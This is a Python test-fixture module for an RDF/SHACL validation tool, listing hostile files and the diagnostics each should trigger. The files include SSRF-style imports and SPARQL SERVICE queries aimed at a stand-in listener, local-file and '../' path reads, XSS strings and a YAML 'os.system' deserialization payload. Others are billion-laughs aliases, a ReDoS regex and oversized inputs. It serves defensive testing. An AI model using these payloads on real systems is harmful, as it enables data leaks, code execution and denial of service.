"""Files that nobody sends in good faith: what they try, as texts that CLI and HTTP are tested with.

`TRAP` stands for the address of a listener that nobody may reach, `FILE` for the IRI of a file that nobody may open, `PATH` and
`NAME` for its path and name.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import NamedTuple

from spinegraph.engine.knowledge.turtle.terms import PREFIXES

HEAD = "".join(f"@prefix {name}: <{namespace}> .\n" for name, namespace in PREFIXES.items())


class Hostile(NamedTuple):
    """Files by name; the checks to run (all quick ones if none is named); what has to be found."""

    files: Mapping[str, str | bytes]
    checks: tuple[str, ...] = ()
    found: tuple[str, ...] = ()
    """Ids of diagnostics."""

    def aimed(self, trap: str, file: Path) -> dict[str, bytes]:
        """The files, aimed at an address and a file."""
        aims = {"TRAP": trap, "FILE": file.as_uri(), "PATH": str(file), "NAME": file.name}
        return {name: _aimed(text, aims) for name, text in self.files.items()}


def _aimed(text: str | bytes, aims: Mapping[str, str]) -> bytes:
    body = text.encode() if isinstance(text, str) else text
    for name, aim in aims.items():
        body = body.replace(name.encode(), aim.encode())
    return body


def _turtle(text: str, *found: str, checks: tuple[str, ...] = ()) -> Hostile:
    return Hostile({"shapes/rules/hostile.ttl": HEAD + text}, checks, found)


def _shapes(text: str, *found: str, data: str = 'rule:bait core:text "a"@en .') -> Hostile:
    files = {"shapes/authoring/hostile.ttl": HEAD + text, "shapes/rules/bait.ttl": HEAD + data}
    return Hostile(files, ("shapes",), found)


def _cases(text: str) -> Hostile:
    return Hostile({"cases/hostile.yaml": text}, ("syntax", "cases"), ("SG104",))


def _rules(count: int) -> str:
    return "".join(
        f'rule:many{n} a core:Recommendation , sh:TripleRule ; rdfs:label "Rule {n}"@en ; sh:condition shape:Everybody .\n'
        for n in range(count)
    )


TARGET = "shape:Hostile a sh:NodeShape ; sh:targetNode rule:bait ; "
QUERY = 'sh:sparql [ a sh:SPARQLConstraint ; sh:message "leak"@en ; sh:select """'

REACHING: dict[str, Hostile] = {
    "imports of http and file": _turtle(
        "<urn:x:o> a owl:Ontology ; owl:imports <TRAP> , <FILE> ; owl:versionIRI <TRAP> ; rdfs:seeAlso <TRAP> , <FILE> ."
    ),
    "imports of shapes": _shapes(f"<urn:x:o> a owl:Ontology ; owl:imports <TRAP> , <FILE> . {TARGET} sh:minCount 0 ."),
    "a shapes graph elsewhere": _shapes(
        f"<urn:x:o> sh:shapesGraph <TRAP> ; sh:shapesGraphWellFormed true . {TARGET} sh:nodeKind sh:IRI ."
    ),
    "SHACL-JS": _shapes(
        f"{TARGET} sh:js [ a sh:JSConstraint ; sh:jsLibrary [ sh:jsLibraryURL <TRAP> ] ; sh:jsFunctionName 'steal' ] ."
    ),
    "a query of another server": _shapes(
        f'{TARGET} {QUERY}SELECT $this WHERE {{ SERVICE <TRAP> {{ $this ?p ?o }} }}""" ] .', "SG402"
    ),
    "a silent query of another server": _shapes(
        f'{TARGET} {QUERY}SELECT $this WHERE {{ SERVICE SILENT <TRAP> {{ $this ?p ?o }} }}""" ] .', "SG402"
    ),
    "a query from a file": _shapes(
        f'{TARGET} {QUERY}SELECT $this FROM <FILE> WHERE {{ $this ?p ?o }}""" ] .',  # noqa: S608 (SPARQL)
        "SG401",
    ),
    "a query from a graph elsewhere": _shapes(
        f'{TARGET} {QUERY}SELECT $this FROM <TRAP> FROM NAMED <TRAP> WHERE {{ GRAPH ?g {{ $this ?p ?o }} }}""" ] .',  # noqa: S608
        "SG402",
    ),
    "documents elsewhere": Hostile(
        {
            "ontology/sources/hostile.ttl": HEAD
            + 'source:hostile a core:Source ; dcterms:identifier "666" ; core:fileName "PATH" .\n'
            + 'source:above a core:Source ; dcterms:identifier "667" ; core:fileName "../NAME" .\n'
            + f'source:long a core:Source ; dcterms:identifier "668" ; core:fileName "{"x" * 5000}" .',
            "documents/900.txt": "The throat hurts.",
        }
    ),
    "remote context in a case": _cases('- {"@context": "TRAP", name: a}\n'),
}
"""What tries to reach something."""

MALFORMED: dict[str, Hostile] = {
    "invalid UTF-8": Hostile({"a.ttl": HEAD.encode() + b'rule:a rdfs:label "\xff\xfe" .'}, (), ("SG102",)),
    "overlong UTF-8": Hostile({"a.ttl": HEAD.encode() + b'rule:a rdfs:label "\xc0\xaf" .'}, (), ("SG102",)),
    "a surrogate in UTF-8": Hostile({"a.ttl": HEAD.encode() + b'rule:a rdfs:label "\xed\xa0\x80" .'}, (), ("SG102",)),
    "UTF-16": Hostile({"a.ttl": (HEAD + "rule:a rdfs:label 'a' .").encode("utf-16")}, (), ("SG102",)),
    "a mapping that is not UTF-8": Hostile(
        {"a.sssom.tsv": b"subject_id\tpredicate_id\tobject_id\n\xff\t\xfe\t\xfd"}, (), ("SG102",)
    ),
    "a byte order mark": Hostile({"a.ttl": b"\xef\xbb\xbf" + HEAD.encode() + b'rule:a rdfs:label "a" .'}, (), ("SG101",)),
    "NUL": Hostile({"a.ttl": HEAD.encode() + b'rule:a rdfs:label "\x00" .\x00'}, (), ("SG208",)),
    "an escaped surrogate": _turtle(r'rule:a rdfs:label "\uD800" .', "SG101"),
    "an escaped NUL": _turtle(r'rule:a rdfs:label "\u0000" ; core:text "\u001B[2J\u202E"@en .'),
    "spaces in an IRI": _turtle("<http://e/a b> a owl:Class .", "SG101"),
    "control characters in an IRI": _turtle("<http://e/\x07\x1b[2J> a owl:Class .", "SG101"),
    "directions of writing in an IRI": _turtle("<http://e/\u202egro.live\u202c> core:\u202epresent rule:a .", "SG101"),
    "a zero-width IRI": _turtle("<http://e/\u200b> a owl:Class ; rdfs:label '\u200b'@en ."),
    "a relative IRI": _turtle("<a> a owl:Class .", "SG101"),
    "undeclared prefixes": _turtle("nobody:a nobody:b nobody:c .", "SG101"),
    "other schemes": _turtle("<urn:a> <urn:b> <mailto:c> , <data:text/plain,x> , <javascript:alert(1)> .", "SG201"),
    "quoted triples": _turtle("<< rule:a rule:b rule:c >> rdfs:label 'a' .", "SG101"),
    "markup": _turtle(
        "rule:gargle core:presnt '<script>alert(1)</script>'@en ; rdfs:label '</title><img src=TRAP>'@en .", "SG201"
    ),
    "numbers beyond numbers": _turtle(
        'core:hostile a core:Measurement , owl:DatatypeProperty ; skos:notation "hostile" ; core:minimum 1e999 ; '
        'core:maximum "NaN"^^xsd:double ; core:unit "1" . '
        "shape:Hostile a sh:NodeShape ; core:atLeast 99999999999999999999999999 ; core:of finding:Fever ."
        " shape:Other a sh:NodeShape ; sh:property [ sh:path core:hostile ; sh:minCount 1 ; sh:minInclusive -1e999 ; "
        "sh:maxExclusive 1e-999 ] ."
        f' shape:Third a sh:NodeShape ; core:atLeast "{"9" * 5000}"^^xsd:integer ; core:of finding:Fever .'
    ),
    "an order of six thousand digits": _turtle(f"rule:a a core:Recommendation ; sh:order {'9' * 6000} .", "SG606"),
    "offsets of six thousand digits": _turtle(
        f"passage:000-L999a a core:Passage ; oa:hasSelector [ oa:start {'8' * 6000} ; oa:end {'9' * 6000} ] .", "SG206"
    ),
    "a circle of three hundred kinds": _turtle("".join(
        f"finding:C{n} a owl:Class ; rdfs:subClassOf finding:C{(n + 1) % 300} .\n" for n in range(300)), "SG602"),
    "a list without an end": _turtle(
        "shape:Hostile a sh:NodeShape ; sh:and _:a . _:a rdf:first shape:Hostile ; rdf:rest _:a .", "SG206"
    ),
    "a list of two ends": _turtle(
        "shape:Hostile a sh:NodeShape ; sh:and _:a . _:a rdf:first shape:Hostile ; rdf:rest rdf:nil , _:b . "
        "_:b rdf:first 1 , 2 ; rdf:rest () ."
    ),
    "a circle of sh:node": _turtle("shape:A a sh:NodeShape ; sh:node shape:B . shape:B a sh:NodeShape ; sh:node shape:A . "
                                   "rule:a a core:Recommendation ; sh:condition shape:A .", "SG602"),
    "a circle of subclasses": _turtle("".join(
        f"finding:C{n} a owl:Class ; rdfs:subClassOf finding:C{(n + 1) % 300} .\n" for n in range(300)
    )),
    "a long chain of subclasses": _turtle("".join(
        f"finding:C{n} a owl:Class ; rdfs:subClassOf finding:C{n + 1} .\n" for n in range(400)
    )),
    "a long chain of shapes": _turtle("rule:a a core:Recommendation ; sh:condition shape:C0 .\n" + "".join(
        f"shape:C{n} a sh:NodeShape ; sh:node shape:C{n + 1} .\n" for n in range(3000)
    ), "SG103"),
    "a circle of overrides": _turtle("".join(
        f"rule:c{n} a core:Recommendation ; core:overrides rule:c{(n + 1) % 200} .\n" for n in range(200)
    )),
    "aliases of aliases": _cases(
        "a: &a [x, x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(24))
    ),
    "an alias of itself": _cases("- &a {name: *a}\n"),
    "YAML that is code": _cases("- !!python/object/apply:os.system [touch hacked]\n"),
    "deep YAML": _cases("[" * 20_000),
    "a year that is no number": _cases(f"- {{name: a, case: {{measurements: {{age_years: {'9' * 5000}}}}}, expect: {{}}}}\n"),
}  # fmt: skip
"""What tries to confuse; all of it is small."""

LARGE: dict[str, Hostile] = {
    "a million brackets": _turtle("rule:a core:b " + "[ core:b " * 1_000_000 + "1" + "]" * 1_000_000 + " .", "SG103"),
    "a million parentheses": _turtle("rule:a core:b " + "(" * 1_000_000 + ")" * 1_000_000 + " .", "SG103"),
    "a million brackets that stay open": _turtle("rule:a core:b " + "[ core:b " * 1_000_000, "SG103"),
    "a list of 200,000": _turtle("rule:a core:text ( " + "1 " * 200_000 + ") .", "SG103"),
    "a list that fits": _turtle("rule:a core:text ( " + "1 " * 20_000 + ") ."),
    "a list of 2,000,000": _turtle("rule:a core:text ( " + "finding:aaaa " * 2_000_000 + ") .", "SG103"),
    "a giant text": _turtle('rule:a core:text "' + "a" * 10_000_000 + '"@en .', "SG103"),
    "a large text": _turtle('rule:a core:text """' + 'a\\"\n' * 500_000 + '"""@en .'),
    "a million prefixes": _turtle("".join(f"@prefix p{n}: <http://example.org/{n}#> .\n" for n in range(1_000_000)), "SG103"),
    "many prefixes": _turtle("".join(f"@prefix p{n}: <urn:{n}:> .\n" for n in range(10_000))),
    "ten thousand rules": _turtle(_rules(10_000)),
    "a long line": _turtle("rule:a core:text " + ", ".join(f'"{n}"' for n in range(40_000)) + " ."),
    "a long name": _turtle(f"<urn:{'a' * 1_000_000}> core:text 1 . rule:{'b' * 500_000} core:text 1 ."),
    "ten thousand languages": _turtle("rule:a core:text " + ", ".join(f'"a"@en-x-p{n}' for n in range(10_000)) + " ."),
}
"""What tries to take all time or memory."""

BOMBS: dict[str, Hostile] = {
    "a pattern without an end": _shapes(
        f'{TARGET} sh:property [ sh:path core:text ; sh:pattern "^(([a-z])+.)+[A-Z]([a-z])+$" ] .',
        data=f'rule:bait core:text "{"a" * 5000}" .',
    ),
    "a query without an end": _shapes(
        f'{TARGET} {QUERY}SELECT $this WHERE {{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER (?a = ?l && ?a != ?a) }}""" ] .'
    ),
}
"""Authoring shapes that never come to an end."""
